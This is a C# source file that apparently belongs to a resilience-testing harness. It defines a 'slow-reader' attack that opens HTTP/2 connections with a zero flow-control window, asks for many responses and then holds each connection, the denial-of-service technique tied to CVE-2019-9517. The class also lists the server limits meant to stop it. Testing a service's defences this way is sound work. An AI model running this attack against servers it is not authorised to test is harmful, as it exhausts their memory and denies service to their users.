namespace Metering.Attacks;

/// <summary>
/// Asks for large answers and gives the server no leave to send them: every stream keeps its answer. CVE-2019-9517; RFC
/// 9113, section 10.5.
/// </summary>
internal sealed class SlowReader : Attack
{
    public override string Name => "slow-reader";

    public override string Does => "answers asked for over streams whose window is zero (CVE-2019-9517)";

    public override IReadOnlyList<string> MetBy => ["ResponseBytesPerSecond", "ResponseBufferBytes", "StreamsPerConnection", "Http2ConnectionsPerAddress"];

    public override string Unit => "requests";

    public override double UnitsPerSecond => 6_000;

    public override int Lanes => 64;

    public override async Task AttackAsync(AttackLane lane)
    {
        await using AttackConnection connection = await lane.OpenHttp2Async(streamWindowBytes: 0);
        byte[] reflection = HeaderBlock.OfCall(Messages.ReflectionPath, lane.Target.Token);
        byte[] write = HeaderBlock.OfCall(Messages.WritePath, lane.Target.Token);
        byte[] question = Messages.Reflection(), usage = Messages.DryRun(lane.Target, lane.Time);
        var batch = new FrameBatch();
        for (int stream = 1; stream < 200; stream += 2)
        {
            bool isReflection = stream % 4 == 1;
            await lane.SendAsync(connection, batch, most: 1, frames => frames
                .Headers(stream, isReflection ? reflection : write)
                .Data(stream, isReflection ? question : usage, endsStream: true));
        }

        await AttackLane.HoldAsync(connection);
    }
}
